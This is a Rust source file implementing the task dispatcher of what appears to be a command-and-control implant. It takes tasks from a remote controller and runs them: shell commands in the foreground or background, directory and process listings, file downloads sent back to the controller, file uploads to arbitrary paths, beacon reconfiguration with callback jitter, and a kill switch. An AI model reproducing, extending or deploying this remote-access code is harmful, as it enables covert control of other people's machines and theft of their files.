use tracing::{debug, info, warn};

use crate::core::config::CallbackConfig;
use crate::core::controller::Controller;
use crate::core::shipper::ship;
use crate::core::tasks::handlers;
use crate::core::tasks::{Command, Payload, Task, TaskKind};
use crate::platform::ProcessSource;

/// What the scheduler should do after a task ran.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flow {
    Continue,
    Kill,
}

pub struct Dispatcher<'a> {
    controller: &'a dyn Controller,
    processes: &'a dyn ProcessSource,
}

impl<'a> Dispatcher<'a> {
    pub fn new(controller: &'a dyn Controller, processes: &'a dyn ProcessSource) -> Self {
        Self {
            controller,
            processes,
        }
    }

    /// Runs the batch in order. A `kill` stops the batch.
    pub async fn dispatch_batch(&self, batch: &[Task], config: &mut CallbackConfig) -> Flow {
        for task in batch {
            if self.dispatch(task, config).await == Flow::Kill {
                return Flow::Kill;
            }
        }
        Flow::Continue
    }

    pub async fn dispatch(&self, task: &Task, config: &mut CallbackConfig) -> Flow {
        let Some(kind) = TaskKind::from_wire(&task.kind) else {
            debug!("Ignoring task {} of unknown kind {:?}", task.id, task.kind);
            return Flow::Continue;
        };
        info!("Running task {} ({})", task.id, task.kind);

        let command = match Command::decode(kind, task.args()) {
            Ok(command) => command,
            Err(e) => {
                warn!("Task {} rejected: {}", task.id, e);
                ship(self.controller, task, Payload::text(e.to_string())).await;
                return Flow::Continue;
            }
        };

        let payload = match command {
            Command::Kill => {
                if let Err(e) = self.controller.death_notice(&task.session).await {
                    debug!("Death notice failed: {:#}", e);
                }
                ship(self.controller, task, Payload::success()).await;
                return Flow::Kill;
            }
            Command::Reconfigure(update) => {
                config.reconfigure(update);
                info!(
                    "Reconfigured: freq={}m jitter={}% threshold={}",
                    config.callback_freq, config.jitter, config.self_terminate
                );
                Payload::success()
            }
            Command::List { path } => text_or_error(handlers::list_directory(&path)),
            Command::Processes => text_or_error(handlers::process_table(self.processes)),
            Command::ExecForeground(line) => {
                text_or_error(handlers::exec_foreground(&line).await)
            }
            Command::ExecBackground(line) => text_or_error(handlers::exec_background(&line)),
            Command::Download { path } => match handlers::download(&path).await {
                Ok(bytes) => Payload::File(bytes),
                Err(e) => Payload::text(e.to_string()),
            },
            Command::Upload { dest, contents } => {
                match handlers::upload(&dest, &contents).await {
                    Ok(()) => Payload::success(),
                    Err(e) => Payload::text(e.to_string()),
                }
            }
        };
        ship(self.controller, task, payload).await;
        Flow::Continue
    }
}

fn text_or_error(result: std::io::Result<String>) -> Payload {
    match result {
        Ok(text) => Payload::Text(text),
        Err(e) => Payload::text(e.to_string()),
    }
}
